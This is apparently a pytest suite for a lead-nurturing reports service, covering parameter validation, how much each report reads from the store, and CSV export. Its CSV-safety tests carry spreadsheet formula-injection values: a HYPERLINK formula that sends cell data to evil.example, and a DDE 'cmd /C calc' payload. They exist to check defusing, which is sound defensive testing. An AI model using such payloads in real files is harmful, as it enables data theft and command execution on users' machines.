"""The reports service checks parameters by name, and reads from the store only the kinds
and range each report needs, giving what the pure report gives over the same facts."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Iterable
from datetime import UTC, date, datetime, timedelta

import pytest

from nurture.config.settings import Settings
from nurture.domain.factlog import Fact
from nurture.domain.reports import REPORT_NAMES, REPORTS, Column, ReportResult, ReportTable
from nurture.domain.reports.common import Cell, by_lead
from nurture.domain.reports.funnel import funnel
from nurture.domain.reports.velocity import velocity
from nurture.services.reports import (
    ReportParamError,
    UnknownReport,
    load_report_config,
    parse_query,
    report_csv,
    run_report,
)
from nurture.testing import MemoryFactStore
from tests.helpers import ROOT
from tests.unit.reports import factbook, test_funnel, test_velocity


class SpyStore(MemoryFactStore):
    """A memory store that remembers what it was asked to read, and how much it gave."""

    def __init__(self) -> None:
        super().__init__()
        self.reads: list[tuple[set[str] | None, datetime | None, datetime | None]] = []
        self.given = 0

    async def read(
        self,
        kinds: Iterable[str] | None = None,
        since: datetime | None = None,
        until: datetime | None = None,
        lead_ids: Iterable[str] | None = None,
    ) -> AsyncIterator[Fact]:
        self.reads.append((None if kinds is None else set(kinds), since, until))
        async for fact in super().read(kinds, since, until, lead_ids):
            self.given += 1
            yield fact


async def stored(facts: list[Fact]) -> SpyStore:
    store = SpyStore()
    await store.append(facts)
    return store


class TestParameters:
    """Bad parameters are refused naming the parameter; empty ones are no value."""

    def test_dates(self) -> None:
        query = parse_query("funnel", "2026-11-01", "2026-12-01", "source")
        assert (query.since, query.until, query.by) == (
            date(2026, 11, 1),
            date(2026, 12, 1),
            "source",
        )
        assert parse_query("funnel", "", " ", "").model_dump(include={"since", "until", "by"}) == {
            "since": None,
            "until": None,
            "by": None,
        }

    @pytest.mark.parametrize(
        ("args", "param", "words"),
        [
            (("funnel", "2026-13-01"), "since", "'2026-13-01' is not a date: write it YYYY-MM-DD"),
            (("funnel", None, "tomorrow"), "until", "'tomorrow' is not a date"),
            (("funnel", "2026-11-01", "2026-11-01"), "until", "must be after since (2026-11-01)"),
            (
                ("funnel", None, None, "rep"),
                "by",
                "groups by source, form, utm_campaign or cohort, not 'rep'",
            ),
            (("sales", None, None, "source"), "by", "the sales report takes no grouping"),
        ],
    )
    def test_refusals_name_the_parameter(
        self, args: tuple[str, ...], param: str, words: str
    ) -> None:
        with pytest.raises(ReportParamError) as caught:
            parse_query(*args)
        assert caught.value.param == param
        assert words in caught.value.message

    def test_unknown_report(self) -> None:
        with pytest.raises(UnknownReport, match="the reports are funnel, velocity, sales"):
            parse_query("churn")

    def test_the_six_reports(self) -> None:
        assert REPORT_NAMES == ("funnel", "velocity", "sales", "emails", "experiments", "cost")
        assert all(spec.kinds and spec.title for spec in REPORTS.values())

    def test_configuration(self) -> None:
        """The shipped configuration: one business hour to accept, no spend."""
        config = load_report_config(Settings(home=ROOT))
        assert config.accept_within == timedelta(hours=1)
        assert config.costs.spend == ()
        query = parse_query("velocity", config=config)
        assert query.accept_within == timedelta(hours=1)


class TestReading:
    """Only the kinds a report reads, from its range's first day unless it needs history."""

    async def test_funnel_reads_its_kinds_and_history(self) -> None:
        """The funnel's ``entered`` needs when a lead FIRST reached a step: it reads its
        kinds from the first fact."""
        store = await stored(test_funnel.LOG)
        query = parse_query("funnel", "2026-11-01", "2026-12-01", "source")
        report = await run_report("funnel", store, query)
        assert report == funnel(test_funnel.LOG, query)
        assert store.reads == [(set(REPORTS["funnel"].kinds), None, None)]
        assert store.given == sum(1 for f in test_funnel.LOG if f.kind in REPORTS["funnel"].kinds)

    async def test_emails_read_from_the_range(self) -> None:
        """A report that needs no history starts reading at the range's first day."""
        store = await stored(test_funnel.LOG)
        await run_report("emails", store, parse_query("emails", "2026-11-01", "2026-12-01"))
        assert store.reads == [
            (set(REPORTS["emails"].kinds), datetime(2026, 11, 1, tzinfo=UTC), None)
        ]

    async def test_velocity_reads_history(self) -> None:
        """Velocity needs when a lead FIRST reached a step: it reads from the first fact."""
        store = await stored(test_velocity.LOG)
        query = parse_query("velocity", "2026-11-01", "2026-12-01")
        report = await run_report("velocity", store, query)
        assert report == velocity(test_velocity.LOG, query)
        assert store.reads == [(set(REPORTS["velocity"].kinds), None, None)]

    @pytest.mark.parametrize("name", REPORT_NAMES)
    async def test_every_report_runs_on_an_empty_store(self, name: str) -> None:
        report = await run_report(name, await stored([]), parse_query(name))
        assert report.report == name
        assert all(table.columns for table in report.tables())

    async def test_leads_are_fed_whole(self) -> None:
        """Without a range every lead created is in: a, b, c, d, h, and e (October) and f
        (December); g has no creation fact, and the erasure marker is no lead."""
        store = await stored(test_funnel.LOG)
        report = await run_report("funnel", store, parse_query("funnel"))
        assert report.stages[0].reached == 7


class TestByLead:
    """A stream of facts is cut into leads; the erasure marker (lead id "") is none."""

    def test_cut(self) -> None:
        log = [f for f in test_funnel.LOG if f.lead_id in ("", "a", "b")]
        assert log[0].kind == "erased"
        leads = list(by_lead(log))
        assert [{f.lead_id for f in lead} for lead in leads] == [{"a"}, {"b"}]
        assert sum(map(len, leads)) == len(log) - 1


HOSTILE_CAMPAIGNS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB",
    "\rCR",
)


class NumbersReport(ReportResult):
    """A report of one row mixing text and figures, negative ones included."""

    report: str = "numbers"

    def tables(self) -> tuple[ReportTable, ...]:
        columns = (Column(key="name", label="Name", kind="text"), Column(key="diff", label="D"))
        rows: tuple[tuple[Cell, ...], ...] = (("-", -0.25), ("ok", -3))
        return (ReportTable(name="n", title="N", columns=columns, rows=rows),)


class TestCsvFormulas:
    """A text cell a spreadsheet would run as a formula is defused with a leading
    apostrophe; figures, negative ones included, stay raw."""

    @pytest.mark.parametrize("campaign", HOSTILE_CAMPAIGNS)
    def test_hostile_campaign_defused(self, campaign: str) -> None:
        log = [
            factbook.fact("l1", "lead_created", factbook.at(1), utm_campaign=campaign),
            factbook.fact("l2", "lead_created", factbook.at(2), utm_campaign="spring"),
        ]
        query = parse_query("funnel", "2026-11-01", "2026-12-01", "utm_campaign")
        result = funnel(factbook.ordered(log), query)
        rows = list(csv.reader(io.StringIO(report_csv(result), newline="")))
        groups = {row[0] for row in rows[1:]}
        assert groups == {"(all)", "spring", f"'{campaign}"}
        hostile_new = next(r for r in rows if r[0] == f"'{campaign}" and r[1] == "new")
        assert hostile_new[2:] == ["1", "", "1.0", "1"]

    def test_figures_stay_raw(self) -> None:
        result = NumbersReport(since=None, until=None)
        assert report_csv(result).splitlines() == ["name,diff", "'-,-0.25", "ok,-3"]
